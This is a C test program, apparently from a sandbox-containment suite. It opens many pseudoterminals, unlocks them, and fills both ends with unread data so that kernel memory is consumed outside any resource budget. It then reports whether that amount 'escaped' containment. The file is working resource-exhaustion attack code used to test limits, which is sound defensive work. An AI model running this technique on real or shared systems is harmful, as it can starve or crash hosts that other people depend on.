// terminals that are filled in both directions and never read: memory of the kernel, in no budget.
#include "attack.h"

#include <sys/ioctl.h>
#include <termios.h>

static size_t fill(int fd) {
        static char bytes[4096];
        size_t sum = 0;
        fcntl(fd, F_SETFL, O_NONBLOCK);
        for (ssize_t n; (n = write(fd, bytes, sizeof bytes)) > 0;)
                sum += (size_t)n;
        return sum;
}

int main(int argc, char **argv) {
        int most = atoi(arg(argc, argv, 1)), unlocked = 0, n = 0;
        size_t sum = 0;
        for (; n < most; n++) {
                struct termios t;
                int master = open("/dev/ptmx", O_RDWR | O_NOCTTY);
                if (master < 0 || ioctl(master, TIOCSPTLCK, &unlocked) < 0)
                        break;
                int slave = ioctl(master, TIOCGPTPEER, O_RDWR | O_NOCTTY);
                if (slave < 0)
                        break;
                tcgetattr(slave, &t);
                cfmakeraw(&t);
                tcsetattr(slave, TCSANOW, &t);
                sum += fill(master) + fill(slave);
        }
        if (sum > 1 << 20)
                escaped("%zu bytes in %d terminals", sum, n);
        if (n == 0)
                escaped("no terminal was filled: nothing is shown");
        contained("%zu bytes in %d terminals", sum, n);
}
